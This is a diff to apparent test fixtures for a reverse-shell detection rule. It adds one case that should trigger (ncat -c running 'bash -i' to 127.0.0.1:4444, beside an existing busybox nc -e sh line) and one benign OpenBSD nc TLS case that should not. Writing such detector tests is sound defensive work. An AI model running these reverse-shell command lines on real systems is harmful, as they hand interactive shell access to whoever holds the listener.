@@ -100,6 +100,8 @@ R["reverse_shell.fire"] = [
     # busybox nc -e (dup2 of the socket in busybox itself)
     fork(2600, 1000, "/usr/bin/bash"),
     exe(2600, 1000, "/usr/bin/busybox", ["busybox", "nc", "127.0.0.1", "4444", "-e", "sh"]),
+    # ncat -c (--sh-exec)
+    exe(2700, 1000, "/usr/bin/ncat", ["ncat", "-c", "bash -i", "127.0.0.1", "4444"]),
 ]
 R["reverse_shell.miss"] = [
     # ssh host 'ls': sshd runs the shell on a socketpair (unix), not an inet socket
@@ -119,6 +121,8 @@ R["reverse_shell.miss"] = [
     exe(3300, 1000, "/usr/bin/ncat", ["ncat", "127.0.0.1", "80"]),
     exe(3400, 1000, "/usr/bin/openssl", ["openssl", "enc", "-e", "-aes-256-cbc", "-in", "f"]),
     exe(3500, 1000, "/usr/bin/telnet.netkit", ["telnet", "-e", "^]", "10.0.0.1"], comm="telnet"),
+    # OpenBSD nc: -c is TLS / CRLF there, not "run a command"
+    exe(3510, 1000, "/usr/bin/nc.openbsd", ["nc", "-c", "imap.example", "993"], comm="nc"),
     # shells from an interactive session and from make
     exe(3600, 1000, "/usr/bin/make", ["make", "-j2"]),
     exe(3601, 3600, "/usr/bin/dash", ["/bin/sh", "-c", "cc -c a.c"], comm="sh"),
